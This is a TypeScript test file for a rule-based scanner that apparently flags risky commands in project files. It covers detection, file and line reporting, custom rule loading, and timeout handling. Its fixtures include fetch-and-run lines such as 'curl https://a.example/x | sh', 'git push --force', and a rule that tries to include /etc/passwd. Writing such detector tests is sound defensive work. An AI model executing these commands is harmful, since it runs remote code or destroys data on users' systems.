/** The engine: many parts at once, rules of others, and what takes too long. */
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { LIMITS } from '../../src/base/limits.ts';
import { batchesOf, cutLines, joined, separated } from '../../src/scan/pattern-batch.ts';
import type { RuleHit } from '../../src/scan/pattern-thread.ts';
import { RULES } from '../../src/scan/rules.ts';
import type { TextEngine } from '../../src/scan/text-engine.ts';
import { file, INSTALLATION, projectEngine, scanned, spoken } from '../support/scan-engine.ts';

let engine: TextEngine;
beforeAll(async () => {
  engine = await projectEngine();
});
afterAll(async () => engine.close());

function rulesDirectory(files: Readonly<Record<string, string>>): string {
  const directory = mkdtempSync(path.join(tmpdir(), 'rules-'));
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(directory, name), text);
  return directory;
}

const SLOW = `rule slow { strings: $a = /a[^z]*b[^z]*c[^z]*d[^z]*e[^z]*f[^z]*g/ condition: $a }\n`;
const LONG_LINE = 'abcdefa'.repeat(60_000);

describe('own rules', () => {
  const own = readdirSync(path.join(INSTALLATION, 'rules'));
  const texts = own.map((name) => readFileSync(path.join(INSTALLATION, 'rules', name), 'utf8'));

  test('bound every quantifier, and are met by any of their patterns', () => {
    for (const text of texts) {
      const patterns = [...text.matchAll(/^ {4}\$[a-z] = \/(.*)\/(?: nocase| fullword)*$/gm)].map(
        ([, pattern = '']) => pattern.replaceAll(/\\./g, '').replaceAll(/\[[^\]]*\]/g, ''),
      );
      expect(patterns.filter((pattern) => /[*+]|\{\d+,\}/.test(pattern))).toEqual([]);
      const conditions = [...text.matchAll(/^ {2}condition:\n {4}(.*)$/gm)].map(
        ([, found]) => found,
      );
      expect(new Set(conditions)).toEqual(new Set(['any of them']));
      expect(conditions).toHaveLength([...text.matchAll(/^rule /gm)].length);
    }
  });

  test('name rules that exist', () => {
    const ids = texts.flatMap((text) => [...text.matchAll(/id = "([^"]*)"/g)].map(([, id]) => id));
    const known = new Set<string>(RULES.map(({ id }) => id));
    expect(ids.filter((id) => id === undefined || !known.has(id))).toEqual([]);
  });
});

test('scan() tells in which of many small files something is, and where', async () => {
  const line = 'git push --force\n';
  const files = Array.from({ length: 300 }, (_, index) =>
    file(
      `notes/${String(index).padStart(3, '0')}.txt`,
      index % 100 === 7 ? `${'x\n'.repeat(index)}${line}` : 'plain\n',
    ),
  );
  const { findings } = await scanned(engine, files);
  const found = findings.filter(({ rule }) => rule === 'DST-01');
  expect(found.map(({ path: at, line: row }) => [at, row])).toEqual([
    ['notes/007.txt', 8],
    ['notes/107.txt', 108],
    ['notes/207.txt', 208],
  ]);
});

test('scan() matches nothing across two files', async () => {
  const { findings } = await scanned(engine, [
    file('a.txt', 'curl -s https://a.example/x '),
    file('b.txt', '| sh\n'),
  ]);
  expect(findings.filter(({ rule }) => rule === 'RCE-01')).toEqual([]);
});

test('scan() finds a file that stands beside one full of matches', async () => {
  const { findings } = await scanned(engine, [
    file('a.txt', 'git push --force\n'.repeat(1_100)),
    file('b.txt', 'git push --force\n'),
  ]);
  expect(findings.some(({ rule, path: at }) => rule === 'DST-01' && at === 'b.txt')).toBe(true);
});

test('a file full of lesser findings hides no greater one, and what is too full is incomplete', async () => {
  const known = 'curl -sSf https://sh.rustup.rs | sh\n';
  const bad = 'curl https://a.example/x | sh\n';
  const many = await scanned(engine, [file('a.txt', known.repeat(40) + bad)]);
  expect(spoken(many)).toContain('RCE-01 high');
  const full = await scanned(engine, [file('a.txt', known.repeat(1_100) + bad)]);
  expect(full.state).toBe('incomplete');
  expect(full.findings.map(({ reason }) => reason)).toContain('truncated');
});

test('one long line does not keep what stands behind it from being found', async () => {
  const { state, findings } = await scanned(engine, [
    file('a.txt', `${'QUJD'.repeat(10_000)}\ncurl https://a.example/x | sh\n`),
  ]);
  expect(state).toBe('findings');
  expect(findings.some(({ rule }) => rule === 'RCE-01')).toBe(true);
});

describe('rules of others', () => {
  test('are found under the name of their file, with what they say of themselves', async () => {
    const rules = rulesDirectory({
      'acme.yar':
        'rule acme_word { meta: severity = "high" description = "A word of Acme." strings: $a = "acmeword" condition: $a and filesize < 100 }\n',
    });
    const more = await projectEngine(rules);
    try {
      const result = await scanned(more, [
        file('a.txt', 'acmeword\n'),
        file('b.txt', `acmeword${'.'.repeat(200)}\n`),
      ]);
      const found = result.findings.filter(({ rule }) => rule === 'rules/acme.yar:acme_word');
      expect(
        found.map(({ path: at, severity, explanation }) => [at, severity, explanation]),
      ).toEqual([['a.txt', 'high', 'A word of Acme.']]);
      expect(result.ruleset.said).not.toBe((await scanned(engine, [])).ruleset.said);
    } finally {
      await more.close();
    }
  });

  test.each([
    [
      'a rule that is none',
      { 'a.yar': 'rule x { strings:\n $a = /a(/\n condition: $a }\n' },
      /"rules\/a\.yar", line 2: .*invalid regular expression/,
    ],
    ['another file', { 'a.yar': 'include "/etc/passwd"\n' }, /"rules\/a\.yar", line 1: /],
    ['no rules', { 'a.txt': '' }, /no file in it ends with \.yar/],
    ['an odd name', { 'a b.yar': '' }, /characters other than/],
    ['too many bytes', { 'a.yar': '//'.repeat(LIMITS.scanRuleBytes) }, /^Cannot read .*a\.yar/],
  ] as const)('refuses %s', async (_, files, message) => {
    await expect(projectEngine(rulesDirectory(files))).rejects.toThrow(message);
  });
});

test('what takes too long is incomplete and never clean, and the files after it are scanned', async () => {
  const rules = rulesDirectory({ 'slow.yar': SLOW });
  const hurried = await projectEngine(rules, { part: 1_500, scan: 240_000 });
  try {
    const slow = file('a.txt', 'abcdefa\n'.repeat(60_000));
    const result = await scanned(hurried, [slow, file('b.txt', 'curl https://a.example/x | sh\n')]);
    expect(result.state).toBe('incomplete');
    expect(spoken(result)).toContain('RCE-01 high');
    const gaps = result.findings.filter(({ rule }) => rule === 'scan-incomplete');
    expect(gaps.map(({ path: at, reason }) => [at, reason])).toContainEqual(['a.txt', 'timeout']);
    expect((await scanned(hurried, [file('c.txt', LONG_LINE)])).state).toBe('incomplete');
  } finally {
    await hurried.close();
  }
});

test('without the engine a scan is incomplete', async () => {
  const result = await scanned(undefined, [file('a.txt', 'plain\n')]);
  expect(result.state).toBe('incomplete');
  expect(result.findings.map(({ reason }) => reason)).toContain('engine-missing');
});

describe('pattern batches', () => {
  const hit = (places: RuleHit['places'], isFull = false): RuleHit => ({
    source: 's',
    name: 'n',
    meta: {},
    places,
    isFull,
  });
  const parts = [new Uint8Array(4), new Uint8Array(0), new Uint8Array(2)];

  test('batchesOf() keeps the order, and puts what is large alone', () => {
    expect(batchesOf([10, 10, 200, 10], 40)).toEqual([[0, 1], [2], [3]]);
  });

  test('separated() leads each range back to its part', () => {
    expect(joined(parts)).toHaveLength(15);
    const placed = separated(parts, [
      hit([
        [1, 3],
        [10, 2],
      ]),
    ]);
    expect(placed?.map((all) => all.map(({ start, end }) => [start, end]))).toEqual([
      [[1, 4]],
      [],
      [[0, 2]],
    ]);
  });

  test('separated() gives up on what lies across two parts, and on what may have been left out', () => {
    expect(separated(parts, [hit([[3, 2]])])).toBeUndefined();
    expect(separated(parts, [hit([[0, 1]], true)])).toBeUndefined();
  });

  test('cutLines() cuts long lines alone, twice what lies at a cut, and leads ranges back', () => {
    const bytes = Uint8Array.from({ length: 10_000 }, (_, index) =>
      index === 99 ? 0x0a : 0x30 + (index % 7),
    );
    const cut = cutLines(bytes);
    expect(cut.bytes.subarray(0, 100)).toEqual(bytes.subarray(0, 100));
    const second = 100 + LIMITS.scanLineBytes + 3;
    const [placed] = cut.place([hit([[second, 5]])]);
    const start = 100 + LIMITS.scanLineBytes - LIMITS.scanLineOverlap;
    expect(placed).toMatchObject({ start, end: start + 5 });
    expect(cut.bytes.subarray(second, second + 5)).toEqual(bytes.subarray(start, start + 5));
  });
});
